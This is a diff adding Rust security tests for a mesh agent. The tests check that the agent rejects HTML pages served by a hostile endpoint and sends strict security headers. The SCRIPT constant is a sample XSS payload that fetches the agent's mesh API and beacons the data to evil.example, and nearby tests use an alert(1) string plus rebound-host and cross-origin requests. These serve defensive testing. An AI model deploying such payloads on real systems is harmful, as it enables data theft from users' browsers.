@@ -1,0 +1,220 @@
+//! Attacks on the agent: by a hostile mesh user whose endpoint answers remote management with
+//! a web page, and by a page in the browser of the agent's owner.
+
+mod common;
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use bytes::Bytes;
+use common::mesh::*;
+use common::*;
+use http::Method;
+use serde_json::json;
+
+/// Dials `hub` as `user` with ALPN `alpn`.
+async fn dial(
+    hub: &str,
+    ca: &str,
+    user: &User,
+    alpn: &[u8],
+) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
+    let config = ztm_pki::agent_client_config(ca, &user.cert, &user.key, alpn).expect("config");
+    let tcp = tokio::net::TcpStream::connect(hub).await.expect("connect");
+    let name = ztm_pki::rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
+    tokio_rustls::TlsConnector::from(Arc::new(config))
+        .connect(name, tcp)
+        .await
+        .expect("tls")
+}
+
+/// A hand-made endpoint of `user` at a real hub: it registers `id` as an agent would, and on
+/// its reverse connection answers the hub's hello, then every management request with what
+/// `answer` returns for its path: (status, content type, body).
+async fn hostile_endpoint(
+    hub: &str,
+    ca: &str,
+    user: &User,
+    id: &str,
+    answer: fn(&str) -> (u16, &'static str, &'static str),
+) -> h2::client::SendRequest<Bytes> {
+    let tls = dial(hub, ca, user, ztm_pki::ALPN_CONTROL).await;
+    let (sender, conn) = h2::client::handshake(tls).await.expect("h2");
+    tokio::spawn(async move {
+        let _ = conn.await;
+    });
+    let req = http::Request::builder()
+        .method(Method::POST)
+        .uri(format!("https://hub/api/endpoints/{id}"))
+        .header("content-type", "application/json")
+        .body(())
+        .unwrap();
+    let answer_of_hub = ztm_net::h2io::request(
+        &sender,
+        req,
+        Bytes::from(json!({"name": "evil", "services": []}).to_string()),
+        1 << 20,
+        Duration::from_secs(10),
+    )
+    .await
+    .expect("register");
+    assert_eq!(answer_of_hub.status, 200, "{:?}", answer_of_hub.body);
+    let registered: serde_json::Value = answer_of_hub.json().unwrap();
+    let session = registered["session"].as_str().unwrap().to_string();
+
+    let tls = dial(hub, ca, user, ztm_pki::ALPN_REVERSE).await;
+    let mut server = h2::server::handshake(tls).await.expect("h2 server");
+    let id = id.to_string();
+    tokio::spawn(async move {
+        while let Some(Ok((req, respond))) = server.accept().await {
+            let path = req.uri().path().to_string();
+            if path == "/api/hello" {
+                let hello = json!({"endpoint": id, "session": session});
+                ztm_net::h2io::respond_json(respond, http::StatusCode::OK, &hello);
+                continue;
+            }
+            let (status, content_type, body) = answer(&path);
+            ztm_net::h2io::respond(
+                respond,
+                http::StatusCode::from_u16(status).unwrap(),
+                Some(content_type),
+                Bytes::from_static(body.as_bytes()),
+            );
+        }
+    });
+    sender
+}
+
+const SCRIPT: &str = "<html><body><script>fetch('/api/meshes').then(r=>r.text()).then(t=>\
+                      navigator.sendBeacon('https://evil.example/',t))</script></body></html>";
+
+/// A web page served as a management answer would run in the agent's origin, with the
+/// agent's whole API at its disposal. The agent relays only JSON, always as JSON.
+#[test]
+fn a_hostile_endpoint_cannot_answer_remote_management_with_a_page() {
+    let dir = TempDir::new("attack-html");
+    let ca = start_ca(dir.path());
+    let pem = ca_pem(&ca.addr);
+    let root = create_user(&ca.addr, "root");
+    let mallory = create_user(&ca.addr, "mallory");
+    let hub = start_hub(dir.path(), "hub", &ca.addr);
+    let a = start_agent(dir.path(), "a");
+    join_ok(&a.addr, &pem, "a", &root, &[&hub.addr]);
+    let evil_id = "6d1f3c2a-9b8e-4c7d-a6f5-e4d3c2b1a098";
+
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let _evil = rt.block_on(hostile_endpoint(
+        &hub.addr,
+        &pem,
+        &mallory,
+        evil_id,
+        |path| match path {
+            // A page, labelled as one.
+            "/api/services" => (200, "text/html; charset=utf-8", SCRIPT),
+            // A page labelled as JSON.
+            "/api/ports" => (200, "application/json", SCRIPT),
+            // Real JSON, labelled as a page: relayed, as JSON.
+            _ => (200, "text/html", r#"{"note":"<script>alert(1)</script>"}"#),
+        },
+    ));
+    wait_until(
+        Duration::from_secs(15),
+        "the hostile endpoint online",
+        || is_online(&a.addr, evil_id),
+    );
+
+    for what in ["services", "ports"] {
+        let path = format!("/api/meshes/{MESH}/endpoints/{evil_id}/{what}");
+        let r = get(&a.addr, &path);
+        let ct = r.header("content-type").unwrap_or("").to_string();
+        assert!(
+            !(200..300).contains(&r.status) && ct.starts_with("application/json"),
+            "GET {path}: the agent relayed the endpoint's page: {} {ct}\n{}",
+            r.status,
+            r.text()
+        );
+        assert!(!r.text().contains("<script"), "{}", r.text());
+        let e = r.json();
+        assert_eq!(e["status"], r.status, "{e}");
+        assert!(
+            e["message"].as_str().unwrap_or("").contains("not JSON"),
+            "{e}"
+        );
+        assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
+    }
+    let path = format!("/api/meshes/{MESH}/endpoints/{evil_id}/services/tcp/x");
+    let r = get(&a.addr, &path);
+    assert_eq!(r.status, 200, "{}", r.text());
+    assert_eq!(r.header("content-type"), Some("application/json"));
+    assert_eq!(r.json()["note"], "<script>alert(1)</script>");
+    assert_eq!(
+        r.header("content-security-policy"),
+        Some("default-src 'none'; frame-ancestors 'none'")
+    );
+}
+
+/// Every answer of the agent tells the browser not to guess content types; API answers may
+/// not run or load anything, and the UI's pages may not be framed or leak their address.
+#[test]
+fn every_answer_carries_the_security_headers() {
+    let dir = TempDir::new("attack-headers");
+    let a = start_agent(dir.path(), "a");
+    let api_csp = "default-src 'none'; frame-ancestors 'none'";
+    let answers = [
+        ("/api/meshes", get(&a.addr, "/api/meshes")),
+        ("/api/nothing", get(&a.addr, "/api/nothing")),
+        (
+            "/api/meshes (rebound host)",
+            http(
+                &a.addr,
+                "GET",
+                "/api/meshes",
+                &[("Host", "evil.example")],
+                b"",
+            )
+            .unwrap(),
+        ),
+        (
+            "/api/meshes/x (cross-origin POST)",
+            http(
+                &a.addr,
+                "POST",
+                "/api/meshes/x",
+                &[("Origin", "https://evil.example")],
+                b"{}",
+            )
+            .unwrap(),
+        ),
+    ];
+    for (what, r) in &answers {
+        assert_eq!(
+            r.header("x-content-type-options"),
+            Some("nosniff"),
+            "{what}"
+        );
+        assert_eq!(r.header("content-security-policy"), Some(api_csp), "{what}");
+        assert!(
+            r.header("content-type")
+                .is_some_and(|c| c.starts_with("application/json")),
+            "{what}: {:?}",
+            r.headers
+        );
+    }
+    for path in ["/", "/ui/app.js", "/ui/lib.js", "/ui/style.css"] {
+        let r = get(&a.addr, path);
+        assert_eq!(r.status, 200, "{path}");
+        assert_eq!(
+            r.header("x-content-type-options"),
+            Some("nosniff"),
+            "{path}"
+        );
+        assert_eq!(r.header("x-frame-options"), Some("DENY"), "{path}");
+        assert_eq!(r.header("referrer-policy"), Some("no-referrer"), "{path}");
+        let csp = r.header("content-security-policy").unwrap_or("");
+        assert!(
+            csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"),
+            "{path}: {csp}"
+        );
+        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
+    }
+}
